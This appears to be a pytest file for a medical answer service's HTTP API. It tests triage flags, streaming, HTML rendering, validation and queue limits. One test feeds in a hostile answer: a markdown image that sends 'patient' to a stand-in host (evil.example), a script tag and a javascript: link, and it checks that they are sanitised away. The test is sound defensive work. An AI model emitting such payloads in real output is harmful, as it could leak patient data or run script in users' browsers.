"""The guarded endpoints over HTTP."""

import json
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest

from bedside.answer import Drafted
from bedside.errors import ContextTooLong, UsageError
from bedside.records import Answer, Delta, Section
from bedside.runtime.scripted import ScriptedBackend
from bedside.serve.faults import RETRY_AFTER_S
from bedside.serve.guarded import COUNTED_AT_ONCE, Finished, Rendered, rendered
from bedside.text.prompts import NOTICE, SPECIALTIES

from .conftest import EndlessSpeaker, FailingSpeaker, Serving

SAID = '{"Diagnosis": ["STEMI"], "Differential": [], "Plan": ["ECG"], "Red flags": [], "What is missing": []}'
SHOCK = "Passed out, BP 70/40"


def asked(question: str = "Why?", **more: object) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": question}], **more}


def post(url: str, path: str, body: object) -> httpx.Response:
    return httpx.post(f"{url}v1/{path}", json=body, timeout=20)


def events(url: str, path: str, body: dict[str, Any]) -> list[Any]:
    lines = post(url, path, {**body, "stream": True}).text.split("\n\n")
    assert lines[-2:] == ["data: [DONE]", ""]
    return [json.loads(line.removeprefix("data: ")) for line in lines[:-2]]


def test_an_answer_has_sections_their_html_and_what_the_triage_found(serving: Serving) -> None:
    with serving(ScriptedBackend([("Hm.", SAID)])) as url:
        found = post(url, "answer", asked(SHOCK)).json()
    assert found["object"] == "bedside.answer"
    assert found["sections"] == [{"name": "Diagnosis", "items": ["STEMI"]}, {"name": "Plan", "items": ["ECG"]}]
    assert found["html"].startswith("<h4>Diagnosis</h4>")
    assert (found["reasoning"], found["model"], found["finish"]) == ("Hm.", "scripted", "stop")
    assert (found["emergency"], found["abstained"], found["citations"]) == (True, None, [])
    assert [flag["rule"] for flag in found["flags"]] == ["shock"]
    assert found["flags"][0].keys() == {"rule", "title", "advice", "source", "url", "matched"}
    assert (found["notice"], found["forced"]) == (NOTICE, False)


def test_a_stream_begins_with_the_triage_and_ends_with_the_whole_answer(serving: Serving) -> None:
    with serving(ScriptedBackend([("Hm, well.", SAID)])) as url:
        told = events(url, "answer", asked(SHOCK))
    types = [event["type"] for event in told]
    assert types[:3] == ["triage", "reasoning", "reasoning"]
    assert set(types[3:-1]) == {"sections"}
    assert told[0]["emergency"] is True
    assert told[-1]["type"] == "done"
    assert told[-1]["answer"]["sections"][0] == {"name": "Diagnosis", "items": ["STEMI"]}


def test_text_comes_as_deltas_and_as_html(serving: Serving) -> None:
    with serving(ScriptedBackend([("", "**Rest** now")])) as url:
        told = events(url, "answer", asked(format="text"))
    assert told[0] == {"type": "triage", "emergency": False, "flags": []}
    assert "".join(event["text"] for event in told if event["type"] == "answer").strip() == "**Rest** now"
    assert [event["html"] for event in told if event["type"] == "rendered"][-1] == "<p><strong>Rest</strong> now</p>\n"
    assert told[-1]["answer"]["html"] == "<p><strong>Rest</strong> now</p>\n"


def test_a_hostile_answer_makes_harmless_html(serving: Serving) -> None:
    hostile = "![x](http://evil.example/?q=patient) <script>alert(1)</script> [y](javascript:alert(1))"
    with serving(ScriptedBackend([("", hostile)])) as url:
        told = events(url, "answer", asked(format="text"))
    told_so_far, last = [event["html"] for event in told if event["type"] == "rendered"], told[-1]["answer"]["html"]
    assert told_so_far
    assert "alert(1)" in last
    for made in [*told_so_far, last]:
        assert "<img" not in made
        assert "<script" not in made
        assert "href" not in made


def test_how_to_decode_reaches_the_model(serving: Serving) -> None:
    backend = ScriptedBackend([("", SAID), ("", "Rest.")])
    with serving(backend, max_tokens=100) as url:
        body = asked(thinking_budget=0, max_tokens=999, temperature=0.5, top_p=0.9, seed=3, system="You test.")
        post(url, "answer", body).raise_for_status()
        post(url, "answer", asked(format="text")).raise_for_status()
    first, second = backend.options
    assert (first.thinking_tokens, first.max_tokens, first.temperature, first.top_p, first.seed) == (
        0,
        100,
        0.5,
        0.9,
        3,
    )
    assert first.schema
    assert first.afresh
    assert not second.afresh
    assert (second.schema, second.thinking_tokens) == ("", None)
    assert backend.asked[0][0].content == "You test."
    assert backend.asked[1][0].content != "You test."


@pytest.mark.parametrize(
    ("path", "body", "param"),
    [
        ("answer", {"messages": []}, "messages"),
        ("answer", asked(" "), "messages"),
        ("answer", asked(format="cards"), "format"),
        ("answer", asked(thinking_budget=-1), "thinking_budget"),
        ("answer", asked(thinking_budget=True), "thinking_budget"),
        ("case", {"specialty": "alchemy"}, "specialty"),
        ("case", {"specialty": "cardiology", "difficulty": "x"}, "difficulty"),
        ("case", {}, "specialty"),
        ("tokens", {"text": 3}, "text"),
        ("tokens", {"text": "x" * 200_001}, "text"),
    ],
)
def test_what_cannot_be_done_is_refused_by_name(serving: Serving, path: str, body: object, param: str) -> None:
    with serving(ScriptedBackend([])) as url:
        reply = post(url, path, body)
    assert reply.status_code == 400
    assert reply.json()["error"]["param"] == param


@pytest.mark.parametrize("path", ["answer", "case", "tokens"])
def test_a_model_that_is_not_there_is_a_404(serving: Serving, path: str) -> None:
    body = asked(specialty="cardiology", text="x", model="other")
    with serving(ScriptedBackend([])) as url:
        assert post(url, path, body).json()["error"]["code"] == "model_not_found"


def test_a_case_is_invented_and_streams_alike(serving: Serving) -> None:
    backend = ScriptedBackend([("", "A 50-year-old man …"), ("", "A 60-year-old woman …")])
    with serving(backend) as url:
        whole = post(url, "case", {"specialty": SPECIALTIES[0], "seed": 5}).json()
        told = events(url, "case", {"specialty": SPECIALTIES[-1], "difficulty": "hard"})
    assert (whole["object"], whole["answer"], whole["emergency"]) == ("bedside.case", "A 50-year-old man …", None)
    assert told[-1]["answer"]["answer"] == "A 60-year-old woman …"
    assert backend.options[0].seed == 5
    assert backend.options[0].thinking_tokens == 0


def test_tokens_are_counted(serving: Serving) -> None:
    with serving(ScriptedBackend([])) as url:
        assert post(url, "tokens", {"text": "one two three"}).json() == {"tokens": 3}


def test_tokens_of_a_model_that_cannot_count_are_refused_in_one_line(serving: Serving) -> None:
    class Mute(ScriptedBackend):
        def tokens(self, prompt: str, continuation: str = "") -> int:
            raise UsageError("a remote server counts its own tokens")

    with serving(Mute([])) as url:
        reply = post(url, "tokens", {"text": "one"})
    assert (reply.status_code, reply.json()["error"]["message"]) == (400, "a remote server counts its own tokens")


def test_a_conversation_that_is_too_long_is_told_after_the_triage(
    serving: Serving, failing: type[FailingSpeaker]
) -> None:
    with serving(failing(ContextTooLong("too long"))) as url:
        told = events(url, "answer", asked(SHOCK))
        whole = post(url, "answer", asked(SHOCK))
    assert [event.get("type", "error") for event in told] == ["triage", "error"]
    assert told[1]["error"]["code"] == "context_length_exceeded"
    assert whole.status_code == 400


def test_a_client_that_leaves_stops_the_model(serving: Serving, endless: EndlessSpeaker) -> None:
    with (
        serving(endless) as url,
        httpx.stream("POST", f"{url}v1/answer", json=asked(format="text", stream=True)) as reply,
    ):
        next(reply.iter_lines())
        assert endless.started.acquire(timeout=20)
        reply.close()
        assert endless.closed.acquire(timeout=20)


def said(*words: str) -> Iterator[Delta | Answer]:
    yield from (Delta(answer=word) for word in words)
    yield Answer("".join(words), "", "m", {}, "stop")


def test_html_is_made_seven_times_a_second_at_most_and_at_the_end() -> None:
    times = iter(range(10_000))
    told = list(rendered(said(*"abcdefgh" * 10), lambda: next(times) / 100))
    assert isinstance(told[-1], Finished)
    made = [event for event in told if isinstance(event, Rendered)]
    assert 2 <= len(made) <= 10
    assert made[-1].html == told[-1].html


def test_drafts_are_told_no_more_often() -> None:
    def drafts() -> Iterator[Drafted | Answer]:
        yield from (Drafted((Section("Plan", (str(i),)),), i + 1) for i in range(100))
        yield Answer("", "", "m", {}, "stop")

    times = iter(range(10_000))
    told = [event for event in rendered(drafts(), lambda: next(times) / 100) if event != Delta()]
    assert len(told) < 12
    assert isinstance(told[-1], Finished)


class SlowToCount(EndlessSpeaker):
    """Counts tokens once it may."""

    def __init__(self) -> None:
        super().__init__()
        self.may_count = threading.Event()

    def tokens(self, prompt: str, continuation: str = "") -> int:
        self.started.release()
        self.may_count.wait(20)
        return super().tokens(prompt, continuation)


def test_counts_of_tokens_wait_in_a_queue_of_their_own_and_hold_nothing_else_up(serving: Serving) -> None:
    speaker = SlowToCount()
    with serving(speaker, ScriptedBackend([("", "Rest.")]), queue=60) as url, ThreadPoolExecutor(64) as pool:
        waiting = [pool.submit(post, url, "tokens", {"text": "x"}) for _ in range(60 + COUNTED_AT_ONCE)]
        for _ in range(COUNTED_AT_ONCE):
            assert speaker.started.acquire(timeout=20)
        try:
            answered = post(url, "answer", asked(SHOCK, model="scripted", format="text"))
            assert not speaker.started.acquire(timeout=0.3)
        finally:
            speaker.may_count.set()
        assert answered.status_code == 200
        assert {one.result().status_code for one in waiting} == {200}


def test_where_too_many_counts_wait_the_next_is_told_to_come_back(serving: Serving) -> None:
    speaker = SlowToCount()
    with serving(speaker, queue=0) as url, ThreadPoolExecutor(COUNTED_AT_ONCE) as pool:
        for _ in range(COUNTED_AT_ONCE):
            pool.submit(post, url, "tokens", {"text": "x"})
            assert speaker.started.acquire(timeout=20)
        refused = httpx.post(f"{url}v1/tokens", json={"text": "x"}, timeout=20)
        speaker.may_count.set()
    assert (refused.status_code, refused.json()["error"]["code"]) == (429, "server_busy")


def test_a_full_queue_turns_a_stream_away_before_it_begins(serving: Serving, endless: EndlessSpeaker) -> None:
    with (
        serving(endless, queue=0) as url,
        httpx.stream("POST", f"{url}v1/answer", json=asked(stream=True), timeout=20),
    ):
        assert endless.started.acquire(timeout=20)
        refused = post(url, "answer", asked(SHOCK, stream=True))
    assert (refused.status_code, refused.headers["retry-after"]) == (429, str(RETRY_AFTER_S))


def test_who_waited_too_long_within_a_stream_is_told_when_to_come_back(
    serving: Serving, endless: EndlessSpeaker
) -> None:
    with (
        serving(endless, wait_s=0.1) as url,
        httpx.stream("POST", f"{url}v1/answer", json=asked(stream=True), timeout=20),
    ):
        assert endless.started.acquire(timeout=20)
        told = events(url, "answer", asked(SHOCK))
    assert told[0]["type"] == "triage"
    assert (told[1]["error"]["code"], told[1]["retry_after"]) == ("server_busy", RETRY_AFTER_S)
